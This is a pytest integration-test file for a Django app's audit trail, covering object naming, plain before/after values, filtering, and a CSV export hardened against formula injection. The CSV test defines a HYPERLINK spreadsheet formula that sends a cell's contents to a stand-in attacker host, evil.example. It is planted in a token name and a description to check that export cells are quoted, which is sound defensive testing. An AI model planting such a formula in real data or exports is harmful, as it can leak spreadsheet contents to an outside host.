"""The trail as people read it: objects by name (also once deleted), plain before/after values, rows labelled
by what they are, a team token's changes naming the token, filters by object type, what happened, action,
user and time; and a CSV export that a spreadsheet cannot turn into formulas."""

import csv
import io
import json
from datetime import timedelta

import pghistory
import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from onboarding.models import Membership
from onboarding.services.schemas import schema_version_submit
from onboarding.services.teams import membership_remove, membership_set
from onboarding.services.tokens import team_token_create
from onboarding.services.topics import topic_create, topic_update
from tests.fixtures.actors import _user
from tests.integration.history.conftest import login

pytestmark = pytest.mark.django_db

ORDER = {"type": "record", "name": "Order", "namespace": "payments.trail", "fields": [{"name": "id", "type": "string"}]}
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def edited(payments, alice, vera, topic):
    """A topic edited (tags and configs), a viewer removed, all by alice in one browser request each."""
    with pghistory.context(user=alice.pk, username="alice", via="browser", request_id="req-trail-0001"):
        topic_update(actor=alice, topic=topic, via="browser", description="Orders of the shop",
                     tags=["billing", "pii"], configs={"retention.ms": "86400000"})
    with pghistory.context(user=alice.pk, username="alice", via="browser", request_id="req-trail-0002"):
        membership_remove(actor=alice, membership=Membership.objects.get(team=payments, user=vera), via="browser")
    return topic


def _rows(client, **query):
    response = client.get("/teams/payments/audit/", query)
    assert response.status_code == 200, response.content
    return response, response.context["rows"]


def test_rows_name_their_objects_and_show_plain_values(client, alice, edited):
    response, rows = _rows(login(client, alice))
    page = response.content.decode()

    update = next(r for r in rows if r["resource_type"] == "topic" and r["event"] == "update")
    assert update["object"] == edited.name and update["action"] == "topic.update"
    shown = {change["field"]: (change["before"], change["after"]) for change in update["display"]}
    assert shown["tags"] == ("", "billing, pii")
    assert shown["configs"][1] == "retention.ms: 86400000"
    removed = next(r for r in rows if r["resource_type"] == "membership" and r["event"] == "delete")
    assert removed["object"] == "vera in payments"  # from the delete snapshot: the row is gone
    assert f">{edited.name}</a>" in page and "vera in payments" in page
    assert f"topic {edited.pk}<" not in page
    assert "[&#x27;" not in page and "{&#x27;" not in page  # no Python reprs of lists or dicts
    assert "billing, pii" in page


def test_a_teams_token_is_named_by_its_changes_and_its_own_rows(alice, payments, edited):
    token, plain = team_token_create(actor=alice, team=payments, name="deploy-bot", scope="write", via="browser")
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {plain}")
    etag = client.get(f"/api/v1/topics/{edited.pk}/")["ETag"]
    assert client.patch(f"/api/v1/topics/{edited.pk}/", {"description": "From CI"}, format="json",
                        HTTP_IF_MATCH=etag).status_code == 200

    rows = client.get("/api/v1/audit/", {"team": "payments", "resource_type": "topic", "event": "update"}).json()
    by_token = rows["results"][0]
    assert by_token["actor"] == f"payments-automation (token {token.display_prefix})"
    assert by_token["changes"]["description"] == ["Orders of the shop", "From CI"]
    created = client.get("/api/v1/audit/", {"team": "payments", "resource_type": "apitoken"}).json()["results"]
    assert [row["object"] for row in created] == [f"deploy-bot ({token.display_prefix}) of payments"]


def test_schema_rows_written_under_a_topic_action_are_labelled_as_schema_rows(client, alice, payments, cluster,
                                                                               topic_name):
    # A promotion applies topic.create and the schema submissions in one context, as here.
    with pghistory.context(user=alice.pk, username="alice", via="api", request_id="req-trail-promote"):
        topic = topic_create(actor=alice, team=payments, cluster=cluster, name=topic_name("promoted"),
                             partitions=1, replication_factor=1, via="api")
        schema_version_submit(actor=alice, topic=topic, side="value", fmt="AVRO", text=json.dumps(ORDER), via="api")

    _, rows = _rows(login(client, alice), since=(timezone.now() - timedelta(minutes=5)).strftime("%Y-%m-%dT%H:%M"))
    labels = {(r["resource_type"], r["action"]) for r in rows if r["request_id"] == "req-trail-promote"}

    assert ("topic", "topic.create") in labels
    assert {kind for kind, action in labels if action == "topic.create"} == {"topic"}
    assert ("schemaversion", "schemaversion.create") in labels
    assert ("schema", "schema.version.create") in labels
    subjects = {r["object"] for r in rows if r["resource_type"] == "schema"}
    assert subjects == {f"{topic.name}-value"}


def test_filters_by_object_type_what_happened_action_user_and_time(client, alice, bob, edited):
    login(client, alice)
    with pghistory.context(user=bob.pk, username="bob", via="browser"):
        topic_update(actor=bob, topic=edited, via="browser", description="By bob")

    _, deletes = _rows(client, event="delete")
    _, updates = _rows(client, action="topic.update")
    _, bobs = _rows(client, actor="bob", resource_type="topic")
    _, future = _rows(client, since=(timezone.now() + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M"))
    bad = client.get("/teams/payments/audit/", {"event": "exploded", "action": "Not An Action"})

    assert {(r["resource_type"], r["object"]) for r in deletes} == {("membership", "vera in payments")}
    assert {r["action"] for r in updates} == {"topic.update"} and len(updates) == 2
    assert [r["actor"] for r in bobs] == ["bob"]
    assert future == []
    assert bad.status_code == 400 and set(bad.context["form"].errors) == {"event", "action"}
    assert "An action looks like topic.update." in bad.content.decode()


def test_the_api_filters_the_same_way(api_as, alice, edited):
    answer = api_as(alice).get("/api/v1/audit/", {"team": "payments", "event": "delete"})
    assert answer.status_code == 200
    assert [row["object"] for row in answer.json()["results"]] == ["vera in payments"]
    assert "display" not in answer.json()["results"][0]
    bad = api_as(alice).get("/api/v1/audit/", {"action": "Not An Action"})
    assert bad.status_code == 400 and bad.json()["errors"]["action"] == ["An action looks like topic.update."]


def test_csv_cells_that_start_like_a_formula_are_quoted(client, alice, payments, topic):
    """OWASP CSV injection: user names, object names and texts come from users."""
    with pghistory.context(user=alice.pk, username="alice", via="browser"):
        team_token_create(actor=alice, team=payments, name=FORMULA[:80], scope="read", via="browser")
    sneaky = _user("-2+3")
    membership_set(actor=None, team=payments, user=sneaky, role=Membership.Role.MEMBER)
    with pghistory.context(user=sneaky.pk, username=sneaky.username, via="browser"):
        topic_update(actor=sneaky, topic=topic, via="browser", description=FORMULA)

    response = login(client, alice).get("/teams/payments/audit/", {"export": "csv"})
    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    header, body = lines[0], lines[1:]
    cells = [cell for line in body for cell in line]

    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_sneaky = next(dict(zip(header, line, strict=True)) for line in body if "-2+3" in line[header.index("actor")])
    assert by_sneaky["actor"] == "'-2+3"
    assert json.loads(by_sneaky["changes"])["description"] == ["", FORMULA]  # the value itself is kept
    token_rows = [dict(zip(header, line, strict=True)) for line in body
                  if line[header.index("resource_type")] == "apitoken"]
    assert token_rows and all(row["object"].startswith("'=HYPERLINK(") for row in token_rows)
